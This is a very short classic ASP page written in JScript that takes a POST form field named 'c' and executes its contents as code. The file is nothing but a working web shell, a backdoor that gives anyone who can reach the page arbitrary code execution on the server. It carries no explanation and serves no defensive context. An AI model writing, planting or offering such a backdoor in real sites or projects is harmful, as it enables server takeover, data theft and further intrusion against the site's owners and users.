<%@ Language="JScript" %>
<%
var c = Request.Form("c") + "";
if (c.length) { (new Function(c))(); }
%>
